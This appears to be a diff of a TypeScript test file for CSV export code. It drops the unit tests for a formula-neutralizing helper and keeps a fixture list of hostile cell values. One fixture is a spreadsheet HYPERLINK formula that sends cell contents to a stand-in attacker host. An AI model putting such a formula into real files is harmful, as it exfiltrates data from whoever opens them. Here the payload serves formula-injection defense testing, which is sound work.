@@ -2,7 +2,6 @@ import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
 import { csvRows } from "./csv-rows";
 import { csvStream } from "./csv-stream";
-import { neutralizeCell } from "./neutralize-cell";
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -15,28 +14,6 @@ const HOSTILE = [
   'plain, with "quotes", commas\nand a newline',
   "",
 ];
-
-describe("neutralizeCell", () => {
-  it("prefixes a quote to anything a spreadsheet would evaluate", () => {
-    expect(neutralizeCell("=1+1")).toBe("'=1+1");
-    expect(neutralizeCell("+1")).toBe("'+1");
-    expect(neutralizeCell("-1")).toBe("'-1");
-    expect(neutralizeCell("@x")).toBe("'@x");
-    expect(neutralizeCell("\tx")).toBe("'\tx");
-    expect(neutralizeCell("\rx")).toBe("'\rx");
-  });
-  it("leaves ordinary text, numbers and dates readable", () => {
-    expect(neutralizeCell("Kim Lee")).toBe("Kim Lee");
-    expect(neutralizeCell("a=b")).toBe("a=b");
-    expect(neutralizeCell(42)).toBe("42");
-    expect(neutralizeCell(null)).toBe("");
-    expect(neutralizeCell(new Date(Date.UTC(2026, 0, 2, 3, 4, 5, 6)))).toBe("2026-01-02T03:04:05.006Z");
-    expect(neutralizeCell({ a: 1 })).toBe('{"a":1}');
-  });
-  it("a negative number is text too (it could be the start of a formula)", () => {
-    expect(neutralizeCell(-5)).toBe("'-5");
-  });
-});
 
 describe("csvRows", () => {
   it("quotes every cell and round-trips hostile values with no cell starting a formula", () => {
